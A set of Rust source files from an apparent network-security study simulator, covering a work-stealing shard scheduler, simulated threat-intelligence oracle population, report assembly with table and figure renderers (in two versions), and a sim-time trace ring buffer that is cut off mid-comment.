pub struct ShardScheduler {
    /// One deque of pending shard indices per worker.
    queues: Vec<Mutex<VecDeque<u32>>>,
    /// Chunked steals performed (diagnostics; not part of any report).
    steals: AtomicU64,
}

impl ShardScheduler {
    /// Partition `0..shards` into contiguous blocks, one per worker. With
    /// more workers than shards the tail workers start empty and steal.
    pub fn new(shards: u32, workers: usize) -> ShardScheduler {
        let workers = workers.max(1);
        let block = (shards as usize).div_ceil(workers).max(1);
        let mut queues: Vec<VecDeque<u32>> = (0..workers).map(|_| VecDeque::new()).collect();
        for index in 0..shards {
            queues[(index as usize / block).min(workers - 1)].push_back(index);
        }
        ShardScheduler {
            queues: queues.into_iter().map(Mutex::new).collect(),
            steals: AtomicU64::new(0),
        }
    }

    /// Next shard for `worker`: its own front, else a chunked steal.
    /// `None` means every shard has been claimed (work may still be
    /// *running* on other workers, but none is left to start).
    pub fn next(&self, worker: usize) -> Option<u32> {
        if let Some(index) = self.queues[worker].lock().unwrap().pop_front() {
            return Some(index);
        }
        self.steal_into(worker)
    }

    /// Chunked steals performed so far.
    pub fn steals(&self) -> u64 {
        self.steals.load(Ordering::Relaxed)
    }

    fn steal_into(&self, worker: usize) -> Option<u32> {
        loop {
            // Fullest victim first: relieving the largest backlog moves the
            // most work per steal and keeps steal counts logarithmic.
            let victim = self
                .queues
                .iter()
                .enumerate()
                .filter(|&(i, _)| i != worker)
                .map(|(i, q)| (q.lock().unwrap().len(), i))
                .max()
                .filter(|&(len, _)| len > 0)
                .map(|(_, i)| i)?;
            // The victim may have drained between the scan and this lock;
            // loop and re-scan rather than giving up (another sibling may
            // still hold work). Never hold two queue locks at once.
            let mut stolen = {
                let mut q = self.queues[victim].lock().unwrap();
                let len = q.len();
                if len == 0 {
                    continue;
                }
                q.split_off(len - len.div_ceil(2))
            };
            self.steals.fetch_add(1, Ordering::Relaxed);
            let first = stolen.pop_front();
            if !stolen.is_empty() {
                self.queues[worker].lock().unwrap().extend(stolen);
            }
            return first;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Drain with one worker: every shard exactly once, in index order.
    #[test]
    fn single_worker_drains_in_order() {
        let s = ShardScheduler::new(16, 1);
        let got: Vec<u32> = std::iter::from_fn(|| s.next(0)).collect();
        assert_eq!(got, (0..16).collect::<Vec<_>>());
        assert_eq!(s.steals(), 0);
    }

    /// A worker that never shows up: the others steal its whole block and
    /// still execute every shard exactly once.
    #[test]
    fn absent_worker_is_fully_stolen_from() {
        let s = ShardScheduler::new(64, 4);
        let mut got: Vec<u32> = Vec::new();
        // Workers 1..4 round-robin; worker 0 never calls next().
        'outer: loop {
            let mut any = false;
            for w in 1..4 {
                match s.next(w) {
                    Some(index) => {
                        got.push(index);
                        any = true;
                    }
                    None => {
                        if !any {
                            break 'outer;
                        }
                    }
                }
            }
            if !any {
                break;
            }
        }
        got.sort_unstable();
        assert_eq!(got, (0..64).collect::<Vec<_>>());
        assert!(s.steals() > 0, "worker 0's block must have been stolen");
    }

    /// More workers than shards: the overflow workers start empty, steal
    /// what they can, and coverage stays exactly-once.
    #[test]
    fn more_workers_than_shards() {
        let s = ShardScheduler::new(4, 16);
        let mut got: Vec<u32> = Vec::new();
        for w in (0..16).cycle() {
            match s.next(w) {
                Some(index) => got.push(index),
                None => break,
            }
        }
        got.sort_unstable();
        assert_eq!(got, vec![0, 1, 2, 3]);
    }

    /// Threaded smoke: real contention, exactly-once coverage.
    #[test]
    fn threaded_coverage_is_exactly_once() {
        for (shards, workers) in [(64u32, 8usize), (1024, 32), (4096, 7)] {
            let s = ShardScheduler::new(shards, workers);
            let done = Mutex::new(Vec::new());
            std::thread::scope(|scope| {
                for w in 0..workers {
                    let s = &s;
                    let done = &done;
                    scope.spawn(move || {
                        let mut local = Vec::new();
                        while let Some(index) = s.next(w) {
                            local.push(index);
                        }
                        done.lock().unwrap().extend(local);
                    });
                }
            });
            let mut got = done.into_inner().unwrap();
            got.sort_unstable();
            assert_eq!(got, (0..shards).collect::<Vec<_>>(), "{shards}x{workers}");
        }
    }
}
