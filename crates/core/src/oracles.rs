//! Threat-intelligence oracle population.
//!
//! After the traffic has been generated, the oracles are filled from actor
//! ground truth with *imperfect coverage* (see `ofh-intel`): the analysis
//! pipeline then queries them blindly, so Figs. 5/6 measure real agreement
//! and real gaps, as the paper does.

use std::net::Ipv4Addr;

use ofh_attack::plan::{ActorCategory, AttackPlan};
use ofh_devices::population::Population;
use ofh_intel::{
    CensysDb, Exonerator, GreyNoiseDb, GreyNoiseLabel, MalwareRegistry, ReverseDns, VirusTotalDb,
};
use ofh_net::rng::rng_for;

/// The assembled oracle set.
pub struct Oracles {
    pub greynoise: GreyNoiseDb,
    pub virustotal: VirusTotalDb,
    pub censys: CensysDb,
    pub rdns: ReverseDns,
    pub exonerator: Exonerator,
    pub malware: MalwareRegistry,
}

impl Oracles {
    /// Populate every oracle from the plan's and population's ground truth.
    pub fn populate(seed: u64, plan: &AttackPlan, population: &Population) -> Oracles {
        let mut rng = rng_for(seed, "oracles");
        let mut greynoise = GreyNoiseDb::new();
        let mut virustotal = VirusTotalDb::new();
        let mut censys = CensysDb::new();
        let mut rdns = ReverseDns::new();
        let mut exonerator = Exonerator::new();
        let malware = MalwareRegistry::standard(113);

        // Scanning services: registered rDNS (how the analysis recognizes
        // them) + GreyNoise benign labels except the Europe-only blind spot.
        let europe_only = |name: &str| {
            ofh_attack::services::SERVICES
                .iter()
                .find(|s| s.name == name)
                .map(|s| s.europe_only)
                .unwrap_or(false)
        };
        for actor in &plan.actors {
            match &actor.category {
                ActorCategory::ScanningService(name) => {
                    ofh_analysis::events::register_service_rdns(&mut rdns, actor.addr, name);
                    greynoise.ingest(
                        &mut rng,
                        actor.addr,
                        GreyNoiseLabel::Benign,
                        0.95,
                        europe_only(name),
                    );
                }
                ActorCategory::Malicious | ActorCategory::Multistage => {
                    greynoise.ingest(&mut rng, actor.addr, GreyNoiseLabel::Malicious, 0.6, false);
                    // SMB exploiters (WannaCry spreaders) are the most
                    // thoroughly catalogued sources — Fig. 6's highest bar.
                    let wields_smb = actor
                        .tasks
                        .iter()
                        .any(|t| matches!(t.script, ofh_attack::AttackScript::SmbEternal { .. }));
                    let coverage = if wields_smb { 0.95 } else { 0.45 };
                    virustotal.ingest_ip(&mut rng, actor.addr, coverage);
                }
                ActorCategory::UnknownScanner => {
                    greynoise.ingest(&mut rng, actor.addr, GreyNoiseLabel::Unknown, 0.3, false);
                }
                ActorCategory::TorRelay => {
                    exonerator.add_relay(actor.addr);
                    virustotal.ingest_ip(&mut rng, actor.addr, 0.5);
                }
                ActorCategory::DomainHost { domain, webpage } => {
                    rdns.register(
                        actor.addr,
                        domain,
                        ofh_intel::rdns::DomainInfo {
                            has_webpage: *webpage,
                            webpage_kind: "default wordpress site".into(),
                        },
                    );
                    virustotal.ingest_ip(&mut rng, actor.addr, 0.7);
                    // §5.3: 346 of 427 webpage URLs flagged malicious.
                    if *webpage {
                        virustotal.ingest_url(&mut rng, &format!("http://{domain}/"), 0.81);
                    }
                }
            }
        }

        // Infected devices: the paper reports *all* 11,118 flagged by at
        // least one VT vendor — full coverage for the headline set.
        for inf in &plan.infected {
            let addr = population.records[inf.record_idx].addr;
            virustotal.ingest_ip(&mut rng, addr, 1.0);
            greynoise.ingest(&mut rng, addr, GreyNoiseLabel::Malicious, 0.5, false);
        }
        // Censys extension set: tagged "iot" (that's how they're found) and
        // VT-flagged.
        for inf in &plan.censys_extra {
            let rec = &population.records[inf.record_idx];
            let ty = rec
                .profile
                .map(|p| p.device_type.name())
                .unwrap_or("iot device");
            censys.ingest(&mut rng, rec.addr, ty, 1.0);
            virustotal.ingest_ip(&mut rng, rec.addr, 0.9);
        }
        // Censys also tags a sample of the benign population (background
        // realism: tags alone don't make a device an attacker).
        for rec in population.records.iter().step_by(97) {
            if let Some(profile) = rec.profile {
                censys.ingest(&mut rng, rec.addr, profile.device_type.name(), 0.4);
            }
        }
        // Known malware hashes are VT-catalogued.
        for sample in malware.samples() {
            virustotal.ingest_file_hash(&mut rng, &sample.sha256_hex);
        }

        Oracles {
            greynoise,
            virustotal,
            censys,
            rdns,
            exonerator,
            malware,
        }
    }

    /// Ground-truth-free lookup helper for tests.
    pub fn is_service_ip(&self, addr: Ipv4Addr) -> bool {
        ofh_analysis::AttackDataset::is_scanning_service(&self.rdns, addr)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_attack::plan::{HoneypotSet, PlanConfig};
    use ofh_devices::population::{PopulationBuilder, PopulationSpec};
    use ofh_devices::Universe;
    use ofh_net::{SimDuration, SimTime};
    use std::net::Ipv4Addr;

    fn tiny() -> (AttackPlan, Population) {
        let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 16);
        let population = PopulationBuilder::new(PopulationSpec {
            universe,
            scale: 16_384,
            seed: 4,
        })
        .build();
        let plan = AttackPlan::build(
            &PlanConfig {
                seed: 4,
                hp_scale: 1_024,
                infected_scale: 1_024,
                universe,
                month_start: SimTime::ZERO + SimDuration::from_days(31),
                month_days: 30,
                honeypots: HoneypotSet::in_lab(&universe),
            },
            &population,
        );
        (plan, population)
    }

    #[test]
    fn services_get_rdns_and_greynoise() {
        let (plan, population) = tiny();
        let oracles = Oracles::populate(4, &plan, &population);
        let mut service_seen = 0;
        for actor in &plan.actors {
            if let ActorCategory::ScanningService(_) = actor.category {
                service_seen += 1;
                assert!(oracles.is_service_ip(actor.addr), "{} lacks rDNS", actor.addr);
            }
        }
        assert!(service_seen > 0);
        assert!(!oracles.greynoise.is_empty());
    }

    #[test]
    fn infected_devices_fully_vt_flagged() {
        let (plan, population) = tiny();
        let oracles = Oracles::populate(4, &plan, &population);
        for inf in &plan.infected {
            let addr = population.records[inf.record_idx].addr;
            assert!(oracles.virustotal.ip_is_malicious(addr), "{addr} unflagged");
        }
        for inf in &plan.censys_extra {
            let addr = population.records[inf.record_idx].addr;
            assert!(oracles.censys.is_tagged_iot(addr), "{addr} untagged");
        }
    }

    #[test]
    fn tor_relays_in_exonerator_and_malware_catalogued() {
        let (plan, population) = tiny();
        let oracles = Oracles::populate(4, &plan, &population);
        let relays: Vec<_> = plan
            .actors
            .iter()
            .filter(|a| matches!(a.category, ActorCategory::TorRelay))
            .collect();
        assert!(!relays.is_empty());
        for r in &relays {
            assert!(oracles.exonerator.was_relay(r.addr));
        }
        // Every registry sample is VT-catalogued by hash.
        for sample in oracles.malware.samples() {
            assert!(oracles.virustotal.hash_is_malicious(&sample.sha256_hex));
        }
    }

    #[test]
    fn oracle_population_is_deterministic() {
        let (plan, population) = tiny();
        let a = Oracles::populate(4, &plan, &population);
        let b = Oracles::populate(4, &plan, &population);
        assert_eq!(a.greynoise.len(), b.greynoise.len());
        assert_eq!(a.virustotal.flagged_ip_count(), b.virustotal.flagged_ip_count());
        assert_eq!(a.censys.len(), b.censys.len());
    }
}
