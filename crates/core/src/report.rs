//! The study report: one typed result per table/figure, plus renderers.

use ofh_analysis::figures::{AttackTypeBreakdown, Fig2, Fig3, Fig5, Fig6, Fig8, Fig9};
use ofh_analysis::infected::InfectedHosts;
use ofh_analysis::table10::Table10;
use ofh_analysis::table12::Table12;
use ofh_analysis::table13::Table13;
use ofh_analysis::table4::Table4;
use ofh_analysis::table5::Table5;
use ofh_analysis::table7::Table7;
use ofh_analysis::{AttackDataset, Table};
use ofh_fingerprint::FingerprintReport;
use ofh_honeypots::WildHoneypot;
use ofh_net::sim::Counters;
use ofh_obs::{MetricsSnapshot, TraceLog};
use ofh_scan::{ScanResilience, ScanResults};
use ofh_telescope::{Telescope, TelescopeSummary};

use crate::config::StudyConfig;

/// Degradation accounting: what the fault schedule cost the pipeline and
/// how much of it the resilience machinery (retries, shedding, gap-aware
/// aggregation) won back. All zeros on a fault-free run.
#[derive(Debug, Clone, Default, serde::Serialize)]
pub struct ResilienceReport {
    /// Scanner grabs lost on their first attempt (established connections
    /// interrupted, or retry-eligible connect failures). First-attempt SYN
    /// timeouts are *not* counted: a stateless ZMap-style scanner cannot
    /// tell a dropped SYN from empty space.
    pub scan_first_attempt_losses: u64,
    /// Banner-grab retries the scanners issued…
    pub scan_retries_issued: u64,
    /// …and how many of those chains ended in a completed grab.
    pub scan_retries_recovered: u64,
    /// Active fingerprint re-checks the prober re-issued after a failure…
    pub fingerprint_retries_issued: u64,
    /// …and how many concluded with an established verification.
    pub fingerprint_retries_recovered: u64,
    /// Connections the deployed honeypots refused at their flood gates.
    pub honeypot_conns_shed: u64,
    /// Scheduled collector blackout over the whole study, in minutes.
    pub outage_minutes: u64,
    /// SYNs / SYN-ACKs lost to the schedule in transit.
    pub tcp_handshake_drops: u64,
    /// SYNs answered by a simulated rate limiter.
    pub tcp_rate_limited: u64,
    /// Established connections torn down by injected resets or blackouts.
    pub tcp_resets_injected: u64,
    /// Packets swallowed because the destination host was churned dark.
    pub churn_suppressed: u64,
    /// UDP datagrams dropped / corrupted / duplicated in transit.
    pub udp_dropped: u64,
    pub udp_corrupted: u64,
    pub udp_duplicated: u64,
    /// Retry-machinery state still held after the run drained (scanner
    /// grab/retry maps, prober probe states). Must be 0, faults or not.
    pub leaked_connections: u64,
}

impl ResilienceReport {
    /// Grabs lost for good: every retry chain roots at exactly one
    /// first-attempt loss and recovers at most once, so this never
    /// underflows.
    pub fn scan_net_losses(&self) -> u64 {
        self.scan_first_attempt_losses - self.scan_retries_recovered
    }

    pub fn render(&self) -> String {
        let mut t = ofh_analysis::Table::new(
            "Resilience: degradation accounting under the fault schedule",
            &["Counter", "Value"],
        );
        for (name, v) in [
            ("Scan first-attempt losses", self.scan_first_attempt_losses),
            ("Scan retries issued", self.scan_retries_issued),
            ("Scan retries recovered", self.scan_retries_recovered),
            ("Scan net losses", self.scan_net_losses()),
            ("Fingerprint retries issued", self.fingerprint_retries_issued),
            ("Fingerprint retries recovered", self.fingerprint_retries_recovered),
            ("Honeypot connections shed", self.honeypot_conns_shed),
            ("Scheduled outage minutes", self.outage_minutes),
            ("TCP handshake drops (in transit)", self.tcp_handshake_drops),
            ("TCP rate-limited SYNs", self.tcp_rate_limited),
            ("TCP resets injected", self.tcp_resets_injected),
            ("Packets churned dark", self.churn_suppressed),
            ("UDP dropped", self.udp_dropped),
            ("UDP corrupted", self.udp_corrupted),
            ("UDP duplicated", self.udp_duplicated),
            ("Leaked connections", self.leaked_connections),
        ] {
            t.row(&[name.into(), v.to_string()]);
        }
        t.render()
    }

    /// Assemble from the merged run artifacts.
    pub fn assemble(
        scan: &ScanResilience,
        fingerprint: &ofh_fingerprint::FingerprintReport,
        honeypot_conns_shed: u64,
        outage_minutes: u64,
        counters: &Counters,
        leaked_connections: u64,
    ) -> ResilienceReport {
        ResilienceReport {
            scan_first_attempt_losses: scan.first_attempt_losses,
            scan_retries_issued: scan.retries_issued,
            scan_retries_recovered: scan.retries_recovered,
            fingerprint_retries_issued: fingerprint.retries_issued,
            fingerprint_retries_recovered: fingerprint.retries_recovered,
            honeypot_conns_shed,
            outage_minutes,
            tcp_handshake_drops: counters.tcp_handshake_drops,
            tcp_rate_limited: counters.tcp_rate_limited,
            tcp_resets_injected: counters.tcp_resets_injected,
            churn_suppressed: counters.churn_suppressed,
            udp_dropped: counters.udp_datagrams_dropped,
            udp_corrupted: counters.udp_datagrams_corrupted,
            udp_duplicated: counters.udp_datagrams_duplicated,
            leaked_connections,
        }
    }
}

/// Everything a [`crate::Study`] run produces.
pub struct StudyReport {
    pub config: StudyConfig,
    /// Table 4 — exposed systems by protocol and source.
    pub table4: Table4,
    /// Table 5 — misconfigured devices per class (honeypots filtered).
    pub table5: Table5,
    /// Table 6 — the fingerprint run behind the honeypot filter.
    pub fingerprint: FingerprintReport,
    /// Table 7 — honeypot attack events and source splits.
    pub table7: Table7,
    /// Table 8 — telescope traffic classification.
    pub table8: TelescopeSummary,
    /// Table 10 — misconfigured devices by country.
    pub table10: Table10,
    /// Table 12 — top credentials.
    pub table12: Table12,
    /// Table 13 — captured malware hashes.
    pub table13: Table13,
    /// Fig. 2 — device types by protocol.
    pub fig2: Fig2,
    /// Fig. 3 — scanning-service traffic.
    pub fig3: Fig3,
    /// Figs. 4 + 7 — attack-type breakdowns.
    pub breakdown: AttackTypeBreakdown,
    /// Fig. 5 — ours vs GreyNoise.
    pub fig5: Fig5,
    /// Fig. 6 — VirusTotal malicious shares.
    pub fig6: Fig6,
    /// Fig. 8 — attacks per day with listing markers.
    pub fig8: Fig8,
    /// Fig. 9 — multistage attacks.
    pub fig9: Fig9,
    /// §5.3 — the infected-hosts joins.
    pub infected: InfectedHosts,
    /// Degradation accounting under the configured fault schedule.
    pub resilience: ResilienceReport,
    /// The merged honeypot dataset (for further analysis).
    pub dataset: AttackDataset,
    /// The telescope capture.
    pub telescope: Telescope,
    /// The geolocation database the analysis resolved countries/ASNs with
    /// (device space + attacker space). Carried so downstream consumers —
    /// the columnar store above all — annotate addresses identically.
    pub geo: ofh_intel::GeoDb,
    /// The reverse-DNS oracle, the source-classification ground the store
    /// and Table 7 share.
    pub rdns: ofh_intel::ReverseDns,
    /// The (unfiltered) ZMap scan results.
    pub zmap_results: ScanResults,
    /// The Project Sonar dataset stand-in (empty when dataset providers are
    /// disabled). Kept so the columnar store serializes all three sources.
    pub sonar_results: ScanResults,
    /// The Shodan dataset stand-in (ditto).
    pub shodan_results: ScanResults,
    /// Diagnostics.
    pub population_size: usize,
    pub wild_honeypot_count: usize,
    pub counters: Counters,
    /// The merged metrics snapshot (`--metrics-out`). Everything outside
    /// `metrics.host` is deterministic: byte-identical across worker counts
    /// and repeated runs at the same seed.
    pub metrics: MetricsSnapshot,
    /// The merged sim-time trace (`--trace-out`), canonically ordered.
    pub trace: TraceLog,
}

impl StudyReport {
    /// The borrowed inputs `ofh_store` serializes. The honeypot filter is
    /// passed in (rather than recomputed here) so callers can reuse one
    /// set across store builds and their own analysis.
    pub fn store_input<'a>(
        &'a self,
        honeypot_filter: &'a std::collections::BTreeSet<std::net::Ipv4Addr>,
    ) -> ofh_store::StoreInput<'a> {
        ofh_store::StoreInput {
            seed: self.config.seed,
            shards: self.config.shards,
            preset: &self.config.preset,
            zmap: &self.zmap_results,
            sonar: &self.sonar_results,
            shodan: &self.shodan_results,
            honeypot_filter,
            dataset: &self.dataset,
            rdns: &self.rdns,
            telescope: &self.telescope,
            geo: &self.geo,
        }
    }

    /// Serialize the study into columnar store bytes (deterministic: a
    /// pure function of (seed, shards), independent of worker count).
    pub fn build_store(&self) -> Vec<u8> {
        let filter = self.fingerprint.filter_set();
        ofh_store::build_store(&self.store_input(&filter))
    }

    /// Build and write the columnar store to `path` (`--store-out`).
    /// Returns the byte count.
    pub fn write_store(&self, path: &std::path::Path) -> std::io::Result<u64> {
        let filter = self.fingerprint.filter_set();
        ofh_store::write_store(path, &self.store_input(&filter))
    }

    /// Render the Table 6 analogue from the fingerprint report.
    pub fn render_table6(&self) -> String {
        let counts = self.fingerprint.counts();
        let mut t = Table::new(
            "Table 6: Detected honeypots through banner signatures",
            &["Honeypot", "#Detected", "Paper"],
        );
        for family in WildHoneypot::ALL {
            t.row(&[
                family.name().into(),
                counts.get(&family).copied().unwrap_or(0).to_string(),
                family.paper_count().to_string(),
            ]);
        }
        t.row(&[
            "Total".into(),
            self.fingerprint.total().to_string(),
            ofh_honeypots::wild::PAPER_TOTAL.to_string(),
        ]);
        t.render()
    }

    /// Render the Table 8 analogue.
    pub fn render_table8(&self) -> String {
        let mut t = Table::new(
            "Table 8: Telescope suspicious traffic classification",
            &["Protocol", "Daily Avg. Count", "Unique IP", "Scanning-service", "Unknown/Suspicious"],
        );
        for r in &self.table8.rows {
            t.row(&[
                r.protocol.name().into(),
                format!("{:.1}", r.daily_avg_count),
                r.unique_sources.to_string(),
                r.scanning_service_sources.to_string(),
                r.unknown_sources.to_string(),
            ]);
        }
        t.row(&[
            "Total".into(),
            format!("{:.1}", self.table8.total_daily_avg),
            self.table8.total_unique_sources.to_string(),
            "".into(),
            "".into(),
        ]);
        t.render()
    }

    /// A short headline summary.
    pub fn render_summary(&self) -> String {
        format!(
            "openforhire study @ seed {seed} (universe 2^{bits}, scan 1:{ss}, honeypots 1:{hs})\n\
             exposed hosts (ZMap): {exposed} | misconfigured: {misconf} | honeypots filtered: {filtered}\n\
             honeypot attack events: {events} | telescope records: {flows}\n\
             infected misconfigured devices attacking: {infected} \
             (H-only {h}, T-only {t}, both {b}) | Censys extras: {censys}\n\
             multistage attackers: {multi} | distinct malware samples: {malware}",
            seed = self.config.seed,
            bits = self.config.universe.bits,
            ss = self.config.scan_scale,
            hs = self.config.hp_scale,
            exposed = self.zmap_results.records.len(),
            misconf = self.table5.total,
            filtered = self.table5.honeypots_filtered,
            events = self.table7.total_events,
            flows = self.telescope.total_records(),
            infected = self.infected.total,
            h = self.infected.honeypot_only,
            t = self.infected.telescope_only,
            b = self.infected.both,
            censys = self.infected.censys_total(),
            multi = self.fig9.attackers,
            malware = self.table13.distinct_samples(),
        )
    }

    /// Render every table and figure.
    pub fn render_full(&self) -> String {
        let mut out = String::new();
        out.push_str(&self.render_summary());
        out.push_str("\n\n");
        for section in [
            self.table4.render(),
            self.table5.render(),
            self.render_table6(),
            self.table7.render(),
            self.render_table8(),
            self.table10.render(),
            self.table12.render(),
            self.fig2.render(),
            self.fig3.render(),
            self.breakdown.render_fig4(),
            self.fig5.render(),
            self.fig6.render(),
            self.breakdown.render_fig7(),
            self.fig8.render(),
            self.fig9.render(),
            self.infected.render(),
            self.table13.render(),
            self.resilience.render(),
        ] {
            out.push_str(&section);
            out.push('\n');
        }
        out
    }
}
