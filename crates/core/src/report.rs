//! The study report: one typed result per table/figure, plus renderers.

use ofh_analysis::figures::{AttackTypeBreakdown, Fig2, Fig3, Fig5, Fig6, Fig8, Fig9};
use ofh_analysis::infected::InfectedHosts;
use ofh_analysis::table10::Table10;
use ofh_analysis::table12::Table12;
use ofh_analysis::table13::Table13;
use ofh_analysis::table4::Table4;
use ofh_analysis::table5::Table5;
use ofh_analysis::table7::Table7;
use ofh_analysis::{AttackDataset, Table};
use ofh_fingerprint::FingerprintReport;
use ofh_honeypots::WildHoneypot;
use ofh_net::sim::Counters;
use ofh_obs::{MetricsSnapshot, TraceLog};
use ofh_scan::ScanResults;
use ofh_telescope::{Telescope, TelescopeSummary};

use crate::config::StudyConfig;

/// Everything a [`crate::Study`] run produces.
pub struct StudyReport {
    pub config: StudyConfig,
    /// Table 4 — exposed systems by protocol and source.
    pub table4: Table4,
    /// Table 5 — misconfigured devices per class (honeypots filtered).
    pub table5: Table5,
    /// Table 6 — the fingerprint run behind the honeypot filter.
    pub fingerprint: FingerprintReport,
    /// Table 7 — honeypot attack events and source splits.
    pub table7: Table7,
    /// Table 8 — telescope traffic classification.
    pub table8: TelescopeSummary,
    /// Table 10 — misconfigured devices by country.
    pub table10: Table10,
    /// Table 12 — top credentials.
    pub table12: Table12,
    /// Table 13 — captured malware hashes.
    pub table13: Table13,
    /// Fig. 2 — device types by protocol.
    pub fig2: Fig2,
    /// Fig. 3 — scanning-service traffic.
    pub fig3: Fig3,
    /// Figs. 4 + 7 — attack-type breakdowns.
    pub breakdown: AttackTypeBreakdown,
    /// Fig. 5 — ours vs GreyNoise.
    pub fig5: Fig5,
    /// Fig. 6 — VirusTotal malicious shares.
    pub fig6: Fig6,
    /// Fig. 8 — attacks per day with listing markers.
    pub fig8: Fig8,
    /// Fig. 9 — multistage attacks.
    pub fig9: Fig9,
    /// §5.3 — the infected-hosts joins.
    pub infected: InfectedHosts,
    /// The merged honeypot dataset (for further analysis).
    pub dataset: AttackDataset,
    /// The telescope capture.
    pub telescope: Telescope,
    /// The (unfiltered) ZMap scan results.
    pub zmap_results: ScanResults,
    /// Diagnostics.
    pub population_size: usize,
    pub wild_honeypot_count: usize,
    pub counters: Counters,
    /// The merged metrics snapshot (`--metrics-out`). Everything outside
    /// `metrics.host` is deterministic: byte-identical across worker counts
    /// and repeated runs at the same seed.
    pub metrics: MetricsSnapshot,
    /// The merged sim-time trace (`--trace-out`), canonically ordered.
    pub trace: TraceLog,
}

impl StudyReport {
    /// Render the Table 6 analogue from the fingerprint report.
    pub fn render_table6(&self) -> String {
        let counts = self.fingerprint.counts();
        let mut t = Table::new(
            "Table 6: Detected honeypots through banner signatures",
            &["Honeypot", "#Detected", "Paper"],
        );
        for family in WildHoneypot::ALL {
            t.row(&[
                family.name().into(),
                counts.get(&family).copied().unwrap_or(0).to_string(),
                family.paper_count().to_string(),
            ]);
        }
        t.row(&[
            "Total".into(),
            self.fingerprint.total().to_string(),
            ofh_honeypots::wild::PAPER_TOTAL.to_string(),
        ]);
        t.render()
    }

    /// Render the Table 8 analogue.
    pub fn render_table8(&self) -> String {
        let mut t = Table::new(
            "Table 8: Telescope suspicious traffic classification",
            &["Protocol", "Daily Avg. Count", "Unique IP", "Scanning-service", "Unknown/Suspicious"],
        );
        for r in &self.table8.rows {
            t.row(&[
                r.protocol.name().into(),
                format!("{:.1}", r.daily_avg_count),
                r.unique_sources.to_string(),
                r.scanning_service_sources.to_string(),
                r.unknown_sources.to_string(),
            ]);
        }
        t.row(&[
            "Total".into(),
            format!("{:.1}", self.table8.total_daily_avg),
            self.table8.total_unique_sources.to_string(),
            "".into(),
            "".into(),
        ]);
        t.render()
    }

    /// A short headline summary.
    pub fn render_summary(&self) -> String {
        format!(
            "openforhire study @ seed {seed} (universe 2^{bits}, scan 1:{ss}, honeypots 1:{hs})\n\
             exposed hosts (ZMap): {exposed} | misconfigured: {misconf} | honeypots filtered: {filtered}\n\
             honeypot attack events: {events} | telescope records: {flows}\n\
             infected misconfigured devices attacking: {infected} \
             (H-only {h}, T-only {t}, both {b}) | Censys extras: {censys}\n\
             multistage attackers: {multi} | distinct malware samples: {malware}",
            seed = self.config.seed,
            bits = self.config.universe.bits,
            ss = self.config.scan_scale,
            hs = self.config.hp_scale,
            exposed = self.zmap_results.records.len(),
            misconf = self.table5.total,
            filtered = self.table5.honeypots_filtered,
            events = self.table7.total_events,
            flows = self.telescope.total_records(),
            infected = self.infected.total,
            h = self.infected.honeypot_only,
            t = self.infected.telescope_only,
            b = self.infected.both,
            censys = self.infected.censys_total(),
            multi = self.fig9.attackers,
            malware = self.table13.distinct_samples(),
        )
    }

    /// Render every table and figure.
    pub fn render_full(&self) -> String {
        let mut out = String::new();
        out.push_str(&self.render_summary());
        out.push_str("\n\n");
        for section in [
            self.table4.render(),
            self.table5.render(),
            self.render_table6(),
            self.table7.render(),
            self.render_table8(),
            self.table10.render(),
            self.table12.render(),
            self.fig2.render(),
            self.fig3.render(),
            self.breakdown.render_fig4(),
            self.fig5.render(),
            self.fig6.render(),
            self.breakdown.render_fig7(),
            self.fig8.render(),
            self.fig9.render(),
            self.infected.render(),
            self.table13.render(),
        ] {
            out.push_str(&section);
            out.push('\n');
        }
        out
    }
}
