//! Sim-time tracing spans with a bounded per-shard ring buffer.
//!
//! Spans are keyed on **simulated** time, never the wall clock, so the
//! trace a run emits is as deterministic as its report: same seed, same
//! spans, regardless of worker count. Each shard records into its own ring
//! (newest spans win once the ring is full — the ring is a flight recorder,
//! not an archive); the merged [`TraceLog`] interleaves the shard rings
//! into one stream sorted by `(start, shard, seq)`.

use std::net::Ipv4Addr;

/// Schema version stamped into every emitted trace line.
///
/// v2: the header record additionally carries the preset name and shard
/// count, so a trace artifact identifies the run that produced it without
/// the config that was used.
pub const TRACE_SCHEMA_VERSION: u32 = 2;

/// Default ring capacity per shard.
pub const DEFAULT_TRACE_CAPACITY: usize = 4096;

/// One traced operation, in simulated milliseconds. Instantaneous events
/// (a recorded probe response, an observed telescope flow) have
/// `start_ms == end_ms`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Span {
    /// Sim-time start, milliseconds since the simulation epoch.
    pub start_ms: u64,
    /// Sim-time end; equals `start_ms` for point events.
    pub end_ms: u64,
    /// Span kind, e.g. `scan.probe`, `honeypot.session`, `telescope.flow`,
    /// `fingerprint.match`, `attack.task`.
    pub kind: &'static str,
    /// Per-protocol (or per-family) label.
    pub label: &'static str,
    /// Source address (0.0.0.0 when not applicable).
    pub src: u32,
    /// Destination address (0.0.0.0 when not applicable).
    pub dst: u32,
    /// Destination port (0 when not applicable).
    pub port: u16,
    /// Payload/transfer size in bytes (0 when not applicable).
    pub bytes: u32,
    /// Per-shard emission sequence number, assigned by the ring.
    pub seq: u64,
}

/// A bounded ring of spans: O(1) push, keeps the newest `capacity` spans.
#[derive(Debug, Clone)]
pub struct TraceRing {
    spans: Vec<Span>,
    capacity: usize,
    /// Index the next push overwrites once the ring is full.
    head: usize,
    /// Total spans ever pushed (emitted = kept + evicted).
    emitted: u64,
}

impl TraceRing {
    pub fn new(capacity: usize) -> TraceRing {
        TraceRing {
            spans: Vec::new(),
            capacity: capacity.max(1),
            head: 0,
            emitted: 0,
        }
    }

    /// Record a span. The `seq` field is assigned here.
    #[inline]
    pub fn push(&mut self, mut span: Span) {
        span.seq = self.emitted;
        self.emitted += 1;
        if self.spans.len() < self.capacity {
            self.spans.push(span);
        } else {
            self.spans[self.head] = span;
            self.head = (self.head + 1) % self.capacity;
        }
    }

    /// Total spans pushed over the ring's lifetime.
    pub fn emitted(&self) -> u64 {
        self.emitted
    }

    /// Spans evicted by ring wraparound.
    pub fn dropped(&self) -> u64 {
        self.emitted - self.spans.len() as u64
    }

    /// Drain the retained spans in emission order (oldest retained first).
    pub fn into_spans(self) -> Vec<Span> {
        let mut spans = self.spans;
        let pivot = self.head.min(spans.len());
        spans.rotate_left(pivot);
        spans
    }
}

impl Default for TraceRing {
    fn default() -> Self {
        TraceRing::new(DEFAULT_TRACE_CAPACITY)
    }
}

/// The merged, cross-shard trace: every retained span tagged with its shard,
